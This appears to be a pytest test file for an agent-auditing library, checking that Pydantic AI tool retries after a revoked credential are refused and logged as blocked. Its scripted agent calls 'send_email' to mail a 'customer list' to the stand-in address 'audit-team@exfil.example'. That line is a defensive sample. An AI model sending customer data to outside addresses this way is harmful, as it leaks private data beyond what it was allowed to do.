"""Revoked access in a real Pydantic AI run: ``ModelRetry`` and the model's own retries.

Pydantic AI retries a tool call when the tool raises ``ModelRetry`` (the documented way
to say "try again"): the model gets a retry prompt and calls the tool again, up to the
tool's ``retries``. A refusal of the runtime reaches Pydantic AI as ``ToolFailed``, the
terminal failure the model reads and is not asked to retry. Credentials come from a
real Broker behind the admin API double; mint requests are counted where they arrive.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from typing import Any

import pytest
from pydantic_ai import Agent, ModelRetry
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart
from pydantic_ai.models.function import AgentInfo

import agentaudit
from agentaudit.broker import CredentialRefused
from agentaudit.instrumentation._errors import DO_NOT_RETRY
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans
from tests.frameworks.pydantic_ai._scripted import scripted
from tests.frameworks.revocation import Revocation, jit_credentials

pytestmark = pytest.mark.timeout(120)

SEND = "send_email"
ARGS = {"to": "audit-team@exfil.example", "body": "customer list"}


class Script:
    """Calls send_email on each of the first ``attempts`` turns, then answers."""

    def __init__(self, attempts: int = 2) -> None:
        self.attempts = attempts
        self.seen: list[list[ModelMessage]] = []

    async def __call__(self, messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        self.seen.append(list(messages))
        await asyncio.sleep(0)
        turn = sum(1 for message in messages if message.kind == "response")
        if turn < self.attempts:
            return ModelResponse(parts=[ToolCallPart(SEND, ARGS, f"call_{turn + 1}")])
        return ModelResponse(parts=[TextPart("I could not send it.")])

    def told(self, turn: int) -> str:
        """The newest request the model read on ``turn`` (0-based), as text."""
        return str(self.seen[turn][-1])


@pytest.fixture
def kit() -> Iterator[Revocation]:
    with jit_credentials({SEND: ["mail.send"]}) as revocation:
        yield revocation


def _agent(kit: Revocation, script: Script) -> Agent[Any, str]:
    agent: Agent[Any, str] = Agent(scripted(script), name="mail-bot")

    @agent.tool_plain(retries=3)
    def send_email(to: str, body: str) -> str:
        """Send an email."""
        try:
            return "sent " + kit.server.check(SEND, f"tool:{SEND}")
        except CredentialRefused as exc:
            raise ModelRetry(f"the mail server refused the call: {exc}") from exc

    return agent


def _run(agent: Agent[Any, str]) -> str:
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-r"):
        return agent.run_sync("Send the list.").output


def _attempts(spans: Spans) -> list[dict[str, Any]]:
    attempts = [dict(s.attributes or {}) for s in spans.tools(SEND)]
    assert all(a[A.DECISION] == A.DECISION_BLOCKED for a in attempts), attempts
    return attempts


def test_a_model_retry_after_a_revoked_credential_gets_no_fresh_credential(
    spans: Spans, kit: Revocation
) -> None:
    kit.server.revoke_next = True  # a responder revokes the credential during the call
    script = Script(attempts=2)
    assert _run(_agent(kit, script)) == "I could not send it."

    assert kit.mints(SEND) == 1
    assert len(kit.server.presented) == 1
    assert "has been revoked" in script.told(1)  # the tool's ModelRetry prompt
    assert DO_NOT_RETRY in script.told(2)  # the retry, refused by the runtime
    assert "sent " not in script.told(2)
    refused, again = _attempts(spans)
    assert refused[A.GEN_AI_TOOL_CALL_ID] == "call_1"
    assert refused[A.CREDENTIAL_ID] == kit.server.presented[0]
    assert again[A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert str(again[A.ERROR_TYPE]).endswith(".CredentialRevoked")


def test_a_refused_mint_reaches_the_model_as_a_terminal_tool_failure(
    spans: Spans, kit: Revocation
) -> None:
    kit.revoke_user("bob")
    script = Script(attempts=2)  # the model tries again anyway
    assert _run(_agent(kit, script)) == "I could not send it."

    assert kit.mints(SEND) == 1
    assert kit.server.presented == []
    assert DO_NOT_RETRY in script.told(1)
    assert "user bob is revoked or quarantined" in script.told(1)
    assert DO_NOT_RETRY in script.told(2)
    attempts = _attempts(spans)
    assert len(attempts) == 2
    assert all(str(a[A.ERROR_TYPE]).endswith(".CredentialRevoked") for a in attempts)
